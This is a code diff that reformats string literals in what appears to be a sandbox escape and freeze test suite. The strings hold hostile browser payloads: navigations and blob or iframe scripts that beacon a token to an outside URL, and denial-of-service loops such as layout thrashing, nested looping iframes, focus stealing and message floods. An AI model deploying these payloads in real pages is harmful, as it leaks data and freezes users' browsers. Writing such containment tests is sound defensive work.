@@ -191,7 +191,9 @@ function leaving(name: string, code: string): Attack {
   return {
     name: `it leaves its document: ${name}`,
     group,
-    code: `const url = params.http + '/' + params.token; const named = params.named + '/' + params.token; ${code}; await new Promise(() => {});`,
+    code:
+      `const url = params.http + '/' + params.token; const named = params.named + '/' + params.token; ${code}; ` +
+      `await new Promise(() => {});`,
     reports: false,
     timeoutMs: 3_000,
     ends: ['crashed', 'timeout'],
@@ -216,7 +218,9 @@ export const DOM_LEAVING: readonly Attack[] = [
   leaving('to StackBlitz', 'location.href = "https://stackblitz.com/" + params.token'),
   leaving(
     'to a document of its own making',
-    'location.href = URL.createObjectURL(new Blob(["<script>new Image().src = " + JSON.stringify(url) + "; fetch(" + JSON.stringify(named) + "); location.href = " + JSON.stringify(url) + "</scr" + "ipt>"], { type: "text/html" }))',
+    'location.href = URL.createObjectURL(new Blob(["<script>new Image().src = " + JSON.stringify(url) + "; ' +
+      'fetch(" + JSON.stringify(named) + "); location.href = " + JSON.stringify(url) + "</scr" + "ipt>"], { type: ' +
+      '"text/html" }))',
   ),
   leaving(
     'to data:',
@@ -224,7 +228,9 @@ export const DOM_LEAVING: readonly Attack[] = [
   ),
   leaving(
     'to about:blank, with a script that stays',
-    'const f = document.createElement("iframe"); f.srcdoc = "<script>setInterval(() => { new Image().src = " + JSON.stringify(url) + "; parent.location = " + JSON.stringify(named) + " }, 20)</scr" + "ipt>"; document.body.append(f); await new Promise((r) => setTimeout(r, 100)); location.href = "about:blank"',
+    'const f = document.createElement("iframe"); f.srcdoc = "<script>setInterval(() => { new Image().src = " + ' +
+      'JSON.stringify(url) + "; parent.location = " + JSON.stringify(named) + " }, 20)</scr" + "ipt>"; ' +
+      'document.body.append(f); await new Promise((r) => setTimeout(r, 100)); location.href = "about:blank"',
   ),
   leaving('and comes back', 'parent.postMessage("toolyard-document-up", "*")'),
 ];
@@ -244,30 +250,39 @@ export const DOM_FREEZE: readonly Attack[] = [
   ]),
   endless(
     'layout without end',
-    'document.body.innerHTML = "<table>".repeat(300); for (let i = 0; ; i += 1) { document.body.style.width = i % 900 + "px"; document.body.offsetHeight; }',
+    'document.body.innerHTML = "<table>".repeat(300); for (let i = 0; ; i += 1) { document.body.style.width = i ' +
+      '% 900 + "px"; document.body.offsetHeight; }',
   ),
   endless(
     'frames in frames',
-    'const add = (doc) => { const f = doc.createElement("iframe"); doc.body.append(f); if (f.contentDocument?.body) add(f.contentDocument); for (let i = 0; i < 50; i += 1) { const g = doc.createElement("iframe"); g.srcdoc = "<script>for(;;);</scr" + "ipt>"; doc.body.append(g); } }; add(document); for (;;);',
+    'const add = (doc) => { const f = doc.createElement("iframe"); doc.body.append(f); if ' +
+      '(f.contentDocument?.body) add(f.contentDocument); for (let i = 0; i < 50; i += 1) { const g = ' +
+      'doc.createElement("iframe"); g.srcdoc = "<script>for(;;);</scr" + "ipt>"; doc.body.append(g); } }; ' +
+      'add(document); for (;;);',
     ['timeout', 'crashed'],
   ),
   endless(
     'focus without end',
-    'document.body.innerHTML = "<input>"; setInterval(() => { window.focus(); document.querySelector("input").focus(); top.focus(); }, 0); for (;;) await new Promise((r) => setTimeout(r));',
+    'document.body.innerHTML = "<input>"; setInterval(() => { window.focus(); ' +
+      'document.querySelector("input").focus(); top.focus(); }, 0); for (;;) await new Promise((r) => ' +
+      'setTimeout(r));',
     ['timeout', 'aborted'],
   ),
   endless(
     'animation without end',
-    'const frame = () => { const until = performance.now() + 500; while (performance.now() < until); requestAnimationFrame(frame); }; frame(); await new Promise(() => {});',
+    'const frame = () => { const until = performance.now() + 500; while (performance.now() < until); ' +
+      'requestAnimationFrame(frame); }; frame(); await new Promise(() => {});',
   ),
   endless(
     'messages to the app without end',
-    'for (;;) { top.postMessage("x".repeat(1000), "*"); parent.postMessage("toolyard-document-leave", "*"); await null; }',
+    'for (;;) { top.postMessage("x".repeat(1000), "*"); parent.postMessage("toolyard-document-leave", "*"); ' +
+      'await null; }',
     ['timeout', 'crashed'],
   ),
   endless(
     'history and titles without end',
-    'for (let i = 0; ; i += 1) { try { history.pushState(i, ""); location.hash = String(i); } catch {} document.title = String(i); if (i % 100 === 0) await new Promise((r) => setTimeout(r)); }',
+    'for (let i = 0; ; i += 1) { try { history.pushState(i, ""); location.hash = String(i); } catch {} ' +
+      'document.title = String(i); if (i % 100 === 0) await new Promise((r) => setTimeout(r)); }',
     ['timeout', 'crashed'],
   ),
 ];
